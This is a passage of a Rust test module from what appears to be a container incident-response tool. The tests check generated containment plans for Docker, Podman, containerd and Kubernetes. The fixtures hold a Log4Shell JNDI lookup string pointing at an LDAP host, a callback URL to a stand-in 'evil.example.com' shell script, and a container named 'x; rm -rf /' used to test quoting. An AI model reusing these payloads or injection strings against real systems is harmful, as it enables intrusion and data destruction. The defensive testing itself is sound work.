        b.containers = doc.containers;
        b
    }

    fn jndi() -> Finding {
        Finding {
            actor: None,
            rule: "log.jndi".into(),
            severity: Severity::Critical,
            category: "initial-access".into(),
            title: "JNDI lookup in a request".into(),
            summary:
                "GET /?x=${jndi:ldap://198.51.100.7:1389/Exploit} and callback http://evil.example.com/a.sh"
                    .into(),
            attack: Some("T1190".into()),
            time: None,
            evidence: vec![Locator::artifact("access.log").with_line(3)],
            subject: None,
            owner: None,
            iocs: vec![],
            kind: crate::catalog::kind_of("log.jndi"),
        }
    }

    fn host(value: &str, role: HostRole, acts: &[Act], why: &str) -> HostRecord {
        HostRecord {
            value: value.into(),
            kind: if net::ip(value).is_some() { "ip" } else { "domain" },
            role,
            reasons: vec![why.into()],
            acts: acts.to_vec(),
            first_seen: None,
            last_seen: None,
            evidence: vec![],
        }
    }

    fn verdict(name: &str, status: &'static str, reason: &str) -> Verdict {
        Verdict {
            container: Some(name.into()),
            id: None,
            status,
            reason: reason.into(),
            way_in: None,
            attackers: vec![],
            live_sessions: vec![],
            persistence: vec![],
            escape_paths: vec![],
            secrets: vec![],
            identities: vec![],
            proof: vec![],
        }
    }

    fn all_commands(plan: &[ResponseStep]) -> Vec<String> {
        plan.iter().flat_map(|s| s.commands.clone()).collect()
    }

    fn no_opts() -> PlanOptions<'static> {
        PlanOptions { story: Box::leak(Box::default()), trusted: &[] }
    }

    /// The plan of a test bundle, with its own story.
    fn plan(b: &Case, findings: &[Finding], opts: &PlanOptions) -> Vec<ResponseStep> {
        super::plan(b, findings, &PlanOptions { story: &b.story, trusted: opts.trusted })
    }

    #[test]
    fn preserve_then_contain_then_kill() {
        let mut b = with_inspect(&[ArtifactKind::Inspect, ArtifactKind::JsonFileLog], INSPECT);
        let mut findings = crate::analyze::exposure::audit(&b.containers);
        findings.push(jndi());
        b.story.hosts = vec![
            host(
                "198.51.100.7",
                HostRole::Attacker,
                &[Act::SentSucceeded],
                "sent a JNDI request ${jndi:ldap://198.51.100.7:1389/Exploit}",
            ),
            host("evil.example.com", HostRole::Attacker, &[Act::Payload], "served a payload"),
            host("172.17.0.5", HostRole::Victim, &[], "IP address of container web"),
            host("192.0.2.9", HostRole::Unknown, &[], "named in a log"),
        ];
        let plan = plan(&b, &findings, &no_opts());
        let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
        assert_eq!(
            steps,
            [
                "Record the host-side network interface of web (before pausing)",
                "Freeze web",
                "Preserve old as an evidence image",
                "Capture what this bundle lacks for old: diff, export",
                "Preserve web as an evidence image",
                "Capture what this bundle lacks for web: top, diff, export",
                "Disconnect web from its networks",
                "Take web's host-side veth down",
                "Check the host and every other container: an escape is likely",
                "Rotate the secrets in web's environment: DB_PASSWORD, API_TOKEN",
                "Block the attacker's addresses",
                "Hunt for the same indicators on other hosts and containers",
                "Kill web once its evidence is saved",
            ]
        );
        let cmds = |i: usize| plan[i].commands.join("\n");
        assert_eq!(cmds(1), "docker pause web");
        // The veth index is asked of the kernel in the container's namespace, saved to files.
        assert_eq!(
            cmds(0).lines().next().unwrap(),
            "nsenter -t \"$(docker inspect -f '{{.State.Pid}}' web)\" -n ip -o link show eth0 > web.link"
        );
        assert!(cmds(0).contains("> web.iflink") && cmds(0).contains("> web.ifindex"), "{}", cmds(0));
        assert!(
            !all_commands(&plan).iter().any(|c| c.contains("docker exec") || c.contains("/root/sys/")),
            "nothing runs inside, nothing is read from the container's files"
        );
        // The cut-off reads them back and takes down only a veth whose peer is the eth0.
        assert!(cmds(7).contains("-v n=\"$(cat web.iflink)\" -v m=\"$(cat web.ifindex)\""), "{}", cmds(7));
        assert!(cmds(7).contains("/ veth /") && cmds(7).contains("refused"), "{}", cmds(7));
        assert!(plan[7].why.contains("no `ip link` capture of the host"), "{}", plan[7].why);
        // One DATE for the whole response, set once before the first step.
        assert!(cmds(4)
            .starts_with("docker commit 4f2a9c1be0d3aa55e0f1c2d3b4a59687 \"ctriage-evidence/web:${DATE}\""));
        assert!(!all_commands(&plan).iter().any(|c| c.contains("+%Y%m%d")), "DATE is set once");
        assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
        assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
        assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
        assert!(
            !cmds(10).contains("172.17.0.5") && !cmds(10).contains("192.0.2.9"),
            "only attacker-side: {}",
            cmds(10)
        );
        assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
        assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
        assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
        assert!(
            plan[8].why.contains("exposure.privileged") && plan[8].why.contains("exposure.runtime-socket")
        );
        // Most severe first, at most four named.
        assert!(
            plan[1].why.ends_with("answers exposure.privileged, exposure.runtime-socket, exposure.env-secrets, exposure.no-new-privileges-missing and 3 more"),
            "{}",
            plan[1].why
        );
        assert_eq!(cmds(12), "docker kill -s KILL web");
        // Same input, same plan.
        assert_eq!(plan, self::plan(&b, &findings, &no_opts()));
    }

    #[test]
    fn ps_listing_targets_and_hostile_names() {
        let mut b = bundle(&[
            ArtifactKind::Ps,
            ArtifactKind::Inspect,
            ArtifactKind::DockerLogsTimestamped,
            ArtifactKind::Top,
            ArtifactKind::Diff,
            ArtifactKind::FilesystemTar,
        ]);
        b.ps = vec![
            PsRow {
                container_id: "aa00bb11cc22".into(),
                names: vec!["x; rm -rf /".into()],
                state: Some("running".into()),
                ..Default::default()
            },
            PsRow {
                container_id: "dd00".into(),
                names: vec!["gone".into()],
                state: Some("exited".into()),
                ..Default::default()
            },
        ];
        let plan = plan(&b, &[], &no_opts());
        let all = all_commands(&plan);
        assert!(all.contains(&"docker pause 'x; rm -rf /'".to_string()), "{all:?}");
        assert!(all
            .iter()
            .any(|c| c.starts_with("docker commit aa00bb11cc22 \"ctriage-evidence/x__rm_-rf__:${DATE}\"")));
        assert!(all.iter().any(|c| c.starts_with("for net in $(docker inspect")));
        assert!(all.iter().any(|c| c.contains("printf '%s\\n' 'x; rm -rf /: refused")), "{all:?}");
        assert!(!all.iter().any(|c| c.contains("pause gone") || c.contains("kill -s KILL gone")));
        assert!(all.iter().any(|c| c.starts_with("docker commit dd00 ")));
        assert!(!plan.iter().any(|s| s.step.starts_with("Capture")), "every capture is in the bundle");
    }

    #[test]
    fn any_runtime_log_counts_as_captured_output() {
        for kind in [ArtifactKind::CriLog, ArtifactKind::JournalExport, ArtifactKind::LocalLog] {
            let mut b = bundle(&[ArtifactKind::Ps, ArtifactKind::Inspect, kind]);
            b.ps = vec![PsRow {
                container_id: "aa00".into(),
                names: vec!["web".into()],
                state: Some("exited".into()),
                ..Default::default()
            }];
            let plan = plan(&b, &[], &no_opts());
            let capture = plan.iter().find(|s| s.step.starts_with("Capture")).expect("diff and export lack");
            assert_eq!(capture.step, "Capture what this bundle lacks for web: diff, export", "{kind:?}");
        }
        // A plain text log (an application's own file) is not the container's output.
        let mut b = bundle(&[ArtifactKind::Ps, ArtifactKind::Inspect, ArtifactKind::TextLog]);
        b.ps = vec![PsRow { container_id: "aa00".into(), names: vec!["web".into()], ..Default::default() }];
        let plan = plan(&b, &[], &no_opts());
        assert!(plan.iter().any(|s| s.step.starts_with("Capture") && s.step.contains("logs")));
    }

    /// `podman inspect`: Podman's keys beside docker's.
    const PODMAN: &str = r#"[{"Id":"edc329138e8f1039db90cdfb079b1ee150cad84b2742bf6df390ac114fe5d784","Name":"shop-web",
        "State":{"OciVersion":"1.0.2-dev","Status":"running","Running":true,"Pid":575,"ConmonPid":563},
        "OCIRuntime":"runc","ConmonPidFile":"/run/c/conmon.pid","HostConfig":{"NetworkMode":"bridge"},
        "Config":{"Image":"localhost/lab/shop-web:1.0","Env":["DB_PASSWORD=x"]},
        "NetworkSettings":{"Networks":{"podman":{"IPAddress":"10.88.0.2"}}}}]"#;

    #[test]
    fn a_podman_capture_gets_podman_commands_only() {
        let b = with_inspect(&[ArtifactKind::Inspect], PODMAN);
        assert_eq!(b.containers[0].source, crate::ingest::inspect::InspectSource::Podman);
        let findings = crate::analyze::exposure::audit(&b.containers);
        let plan = plan(&b, &findings, &no_opts());
        let all = all_commands(&plan);
        assert!(!all.iter().any(|c| c.contains("docker")), "{all:#?}");
        for want in [
            "podman pause shop-web",
            "podman network disconnect podman shop-web",
            "podman kill -s KILL shop-web",
            "podman logs -t shop-web > shop-web.logs.txt 2>&1",
        ] {
            assert!(all.iter().any(|c| c == want), "{want}: {all:#?}");
        }
        assert!(all.iter().any(|c| c.starts_with("podman commit edc329138e8f")));
        // podman top cannot show start times: the host's ps for the container's PID namespace.
        assert!(all.iter().any(
            |c| c.starts_with("ps -o pid,ppid,user,lstart,args -p \"$(pgrep -d, --ns \"$(podman inspect")
        ));
    }

    /// A containerd data root's container: namespace/id, labels, no inspect.
    fn containerd_bundle(ns: &str, labels: &[(&str, &str)]) -> Case {
        let mut b = bundle(&[ArtifactKind::RootFile]);
        let id = "7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a";
        let mut c = crate::ingest::inspect::ContainerInfo {
            id: id.into(),
            name: id.into(),
            source: crate::ingest::inspect::InspectSource::Containerd,
            ..Default::default()
        };
        c.state.running = true;
        c.config.labels = labels.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
        b.containers = vec![c];
        let mut root = crate::dataroot::RootIndex::default();
        root.containers.push(crate::dataroot::index::RootContainerInfo {
            id: id.into(),
            name: format!("{ns}/{id}"),
            ..Default::default()
        });
        b.data_root = Some(crate::dataroot::DataRootSection { containerd: vec![root], ..Default::default() });
        b
    }

    #[test]
    fn a_containerd_container_gets_nerdctl_in_its_namespace() {
        let b = containerd_bundle("shop", &[]);
        let plan = plan(&b, &[], &no_opts());
        let all = all_commands(&plan);
        assert!(!all.iter().any(|c| c.contains("docker") || c.starts_with("crictl")), "{all:#?}");
        assert!(all
            .iter()
            .any(|c| c
                == "nerdctl -n shop pause 7e3a9b1c5d2f4e6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a"));
        assert!(all.iter().any(|c| c.starts_with("nerdctl -n shop commit 7e3a9b1c5d2f")));
        assert!(all
            .iter()
            .any(|c| c.starts_with("nsenter -t \"$(nerdctl -n shop inspect -f '{{.State.Pid}}' 7e3a")));
        // nerdctl has no network disconnect: the veth is the cut.
        assert!(!plan.iter().any(|s| s.step.starts_with("Disconnect")));
        let veth = plan.iter().find(|s| s.step.ends_with("host-side veth down")).unwrap();
        assert!(veth.why.contains("cannot disconnect"), "{}", veth.why);
    }

    #[test]
    fn a_data_roots_read_write_layer_is_the_diff_and_the_export() {
        let mut b = with_inspect(
            &[ArtifactKind::Inspect, ArtifactKind::JsonFileLog, ArtifactKind::LayerDir],
            INSPECT,
        );
        let mut root = crate::dataroot::RootIndex::default();
        root.containers.push(crate::dataroot::index::RootContainerInfo {
            id: "4f2a9c1be0d3aa55e0f1c2d3b4a59687".into(),
            name: "web".into(),
            upper_dir: Some("overlay2/abc/diff".into()),
            ..Default::default()
        });
        b.data_root = Some(crate::dataroot::DataRootSection { docker: vec![root], ..Default::default() });
        let steps: Vec<String> = plan(&b, &[], &no_opts()).into_iter().map(|s| s.step).collect();
        assert!(steps.contains(&"Capture what this bundle lacks for web: top".to_string()), "{steps:#?}");
        assert!(
            steps.contains(&"Capture what this bundle lacks for old: diff, export".to_string()),
            "{steps:#?}"
        );
    }

    #[test]
    fn a_kubernetes_container_gets_crictl_kubectl_and_ctr() {
        let b = containerd_bundle(
            "k8s.io",
            &[("io.kubernetes.pod.namespace", "shop"), ("io.kubernetes.pod.name", "web-7d9")],
        );
        let plan = plan(&b, &[], &no_opts());
        assert_eq!(
            plan[0].step,
            format!("Quarantine pod shop/web-7d9 ({}) in the cluster", b.containers[0].name)
        );
        let q0 = plan[0].commands.join("\n");
        assert!(
            q0.contains("kubectl -n shop label pod web-7d9 ctriage.io/quarantine=true --overwrite"),
            "{q0}"
        );
        assert!(q0.contains("\"kind\":\"NetworkPolicy\"") && q0.contains("kubectl cordon"), "{q0}");
        let all = all_commands(&plan);
        assert!(all.iter().any(|c| c.starts_with("ctr -n k8s.io task pause 7e3a")), "{all:#?}");
        assert!(all.iter().any(|c| c.starts_with("crictl stop --timeout 0 7e3a")), "{all:#?}");
        assert!(all.iter().any(
            |c| c.starts_with("nsenter -t \"$(crictl inspect -o go-template --template '{{.info.pid}}' 7e3a")
        ));
        assert!(!all.iter().any(|c| c.contains("docker")), "{all:#?}");
        // dockerd's own namespace is Docker's.
        let moby = containerd_bundle("moby", &[]);
        assert!(all_commands(&super::plan(&moby, &[], &no_opts()))
            .iter()
            .any(|c| c.starts_with("docker pause ")));
    }

    #[test]
    fn a_pod_known_only_from_its_cri_logs_is_found_by_its_labels() {
        let mut b = bundle(&[]);
        b.artifacts.push(ArtifactRecord {
            path: "node/var/log/pods/shop_web-7d9_0a1b/app/0.log".into(),
            kind: ArtifactKind::CriLog,
            size: 1,
            sha256: None,
            compression: Compression::None,
            error: None,
            note: None,
        });
        let plan = plan(&b, &[], &no_opts());
        assert!(plan[0].step.starts_with("Quarantine pod shop/web-7d9 (app)"), "{:?}", plan[0]);
        let kill = plan.last().unwrap().commands.join("\n");
        assert!(
            kill.starts_with("crictl stop --timeout 0 \"$(crictl ps -a -q --label io.kubernetes.pod.namespace=shop --label io.kubernetes.pod.name=web-7d9 --name '^app$' | head -n 1)\""),
            "{kill}"
        );
    }

    #[test]
    fn attacker_side_and_inconclusive_containers_get_their_own_steps() {
        let two = r#"[{"Id":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","Name":"/shop-web","State":{"Running":true},
            "HostConfig":{"NetworkMode":"bridge"},"Config":{"Env":["DB_PASSWORD=x"]},
            "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.2"}}}},
            {"Id":"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb","Name":"/kali","State":{"Running":true},
            "HostConfig":{"NetworkMode":"bridge"},"Config":{"Env":["API_TOKEN=y"]},
            "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.3"}}}},
            {"Id":"cccccccccccccccccccccccccccccccc","Name":"/billing","State":{"Running":true},
            "HostConfig":{"NetworkMode":"bridge"},"Config":{},
            "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.4"}}}}]"#;
        let mut b = with_inspect(&[ArtifactKind::Inspect, ArtifactKind::JsonFileLog, ArtifactKind::Top], two);
        b.story.verdicts = vec![
            verdict("shop-web", "compromised", "a reverse shell"),
            verdict("kali", "attacker-side", "its address 172.17.0.3 sent the exploit"),
            verdict("billing", "inconclusive", "only its configuration was read"),
        ];
        b.story.hosts = vec![host(
            "172.17.0.3",
            HostRole::Attacker,
            &[Act::SentSucceeded],
            "sent the exploit (it succeeded)",
        )];
        let mut findings = crate::analyze::exposure::audit(&b.containers);
        for f in findings.iter_mut() {
            let c = b.containers.iter().find(|c| f.title.starts_with(c.name.as_str())).unwrap();
            f.owner = Some(crate::model::Owner::Container { id: c.id.clone(), name: c.name.clone() });
        }
        let plan = plan(&b, &findings, &no_opts());
        let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
        for want in [
            "Freeze attacker-side container kali",
            "Preserve attacker-side container kali as evidence",
            "Find how attacker-side container kali got onto this host",
            "Stop attacker-side container kali once it is preserved",
            "Capture what is missing to judge billing: logs, top, diff, export",
            "Kill shop-web once its evidence is saved",
        ] {
            assert!(steps.contains(&want), "{want}: {steps:#?}");
        }
        let preserve = plan.iter().find(|s| s.step.starts_with("Preserve attacker-side")).unwrap();
        assert!(preserve.why.contains("not a victim to restore"), "{}", preserve.why);
        let judge = plan.iter().find(|s| s.step.starts_with("Capture what is missing")).unwrap();
        assert!(judge.why.contains("only its configuration was read"), "{}", judge.why);
        assert!(judge.commands.iter().any(|c| c == "docker logs -t billing > billing.logs.txt 2>&1"));
        // The attacker's own secrets are not ours to rotate; the victim's are.
        assert!(steps.iter().any(|s| s.starts_with("Rotate the secrets in shop-web's")));
        assert!(!steps.iter().any(|s| s.starts_with("Rotate the secrets in kali's")), "{steps:#?}");
        // Its private address is not dropped: it is a container of this host.
        assert!(!steps.contains(&"Block the attacker's addresses"));
        let relay = plan.iter().find(|s| s.step.starts_with("Find who is behind")).unwrap();
        assert!(
            relay.why.contains("172.17.0.3 relayed it: check your proxy logs for the real client"),
            "{}",
            relay.why
        );
    }

    #[test]
    fn proxies_private_senders_and_trusted_nets_are_never_dropped() {
        let mut b = with_inspect(&[ArtifactKind::Inspect], INSPECT);
        b.story.hosts = vec![
            host(
                "10.0.0.5",
                HostRole::Attacker,
                &[Act::SentUnconfirmed],
                "sent Command injected in a request (no sign it worked)",
            ),
            host(
                "192.0.2.10",
                HostRole::Attacker,
                &[Act::SentSucceeded],
                "sent OS command injection (it succeeded)",
            ),
            host("203.0.113.66", HostRole::Attacker, &[Act::Callback], "named by Reverse shell (callback)"),
            host("198.51.100.9", HostRole::Attacker, &[Act::Payload], "named as callback or download server"),
            host(
                "198.51.100.23",
                HostRole::Attacker,
                &[Act::SentFailed],
                "sent Log4Shell JNDI lookup (it failed)",
            ),
        ];
        // 192.0.2.10 is a load balancer: its requests carry X-Forwarded-For.
        let mut hit = crate::logscan::LogHit {
            locator: Locator::artifact("access.log").with_line(1),
            time: None,
            stream: None,
            rule: "web.cmd-injection".into(),
            title: "OS command injection".into(),
            category: "initial-access".into(),
            severity: Severity::High,
            attack: None,
            excerpt: String::new(),
            decoded: None,
            commands: vec![],
            jndi: None,
            iocs: vec![],
            refs: vec![],
            http: None,
            time_basis: None,
            credit: None,
        };
        hit.http = Some(crate::logscan::http::HttpRequest {
            client: Some("192.0.2.10".into()),
            forwarded_for: Some("203.0.113.50".into()),
            ..Default::default()
        });
        b.logs.log_hits = vec![hit];
        let trusted: Vec<Cidr> = vec!["198.51.100.0/28".parse().unwrap()];
        let plan = plan(&b, &[], &PlanOptions { story: &b.story, trusted: &trusted });
        let block = plan.iter().find(|s| s.step == "Block the attacker's addresses").unwrap();
        assert_eq!(
            block.commands,
            [
                "iptables -I DOCKER-USER -d 203.0.113.66 -j DROP",
                "iptables -I DOCKER-USER -s 203.0.113.66 -j DROP"
            ]
        );
        let relay = plan.iter().find(|s| s.step.starts_with("Find who is behind")).unwrap();
        assert!(
            relay.why.contains("10.0.0.5 relayed it: check your proxy logs for the real client (RFC 1918"),
            "{}",
            relay.why
        );
        assert!(relay.why.contains("192.0.2.10 relayed it: check your proxy logs for the real client; its requests carried X-Forwarded-For 203.0.113.50"), "{}", relay.why);
        assert_eq!(relay.commands, ["ip neigh show to 10.0.0.5"]);
        let hunt = plan.iter().find(|s| s.step.starts_with("Hunt")).unwrap();
        assert!(hunt.why.contains("198.51.100.9 (in --trusted-net 198.51.100.0/28)"), "{}", hunt.why);
        assert!(hunt.why.contains("198.51.100.23 (its attempts did not get in"), "{}", hunt.why);
        assert_eq!(
            hunt.commands,
            ["grep -rIlF -e 203.0.113.66 -e 198.51.100.23 /var/lib/docker/containers /var/log"]
        );
    }

    #[test]
    fn the_veth_is_checked_against_the_hosts_ip_link_capture() {
        let cap = |path: &str, text: &str| iplink::parse_reader(text.as_bytes(), &Locator::artifact(path)).0;
        let host = cap(
            "ip-link-host.txt",
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN\\    link/loopback 00:00:00:00:00:00\n\
             2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP\\    link/ether 52:54:00:12:34:56\n\
             3: docker0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP\\    link/ether 02:42:5e:11:22:33\n\
             55: vethd673180@if54: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue master docker0 state UP\\    link/ether 42:c6:57:20:0d:00 brd ff:ff:ff:ff:ff:ff link-netnsid 0\n",
        );
        let good = cap(
            "ip-link-container.txt",
            "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN\\    link/loopback 00:00:00:00:00:00\n\
             54: eth0@if55: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP\\    link/ether 02:42:ac:11:00:02 link-netnsid 0\n",
        );
        // A macvlan container: its eth0's "peer" is the host's own NIC.
        let macvlan = cap(
            "ip-link-container.txt",
            "7: eth0@if2: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP\\    link/ether 02:42:0a:00:00:07 link-netnsid 0\n",
        );
        let stale = cap(
            "ip-link-container.txt",
            "60: eth0@if61: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP\\    link/ether 02:42:0a:00:00:07 link-netnsid 0\n",
        );
        let why = |links: Vec<iplink::IpLinkCapture>| {
            let mut b = with_inspect(&[ArtifactKind::Inspect], INSPECT);
            b.ip_links = links;
            let plan = plan(&b, &[], &no_opts());
            plan.into_iter().find(|s| s.step.ends_with("host-side veth down")).unwrap().why
        };
        let w = why(vec![host.clone(), good]);
        assert!(
            w.contains("checked against the host's capture: at capture time the container's eth0 (index 54, ip-link-container.txt:2) was the peer of the host's vethd673180 (index 55, a peer link into another namespace on docker0, ip-link-host.txt:4)"),
            "{w}"
        );
        let w = why(vec![host.clone(), macvlan]);
        assert!(
            w.contains("CAUTION: at capture time host index 2")
                && w.contains("was eth0 (ip-link-host.txt:2)"),
            "{w}"
        );
        assert!(w.contains("could cut the host off"), "{w}");
        let w = why(vec![host.clone(), stale]);
        assert!(w.contains("has no interface 61"), "{w}");
        let w = why(vec![host]);
        assert!(w.contains("not the container's side"), "{w}");
    }
}
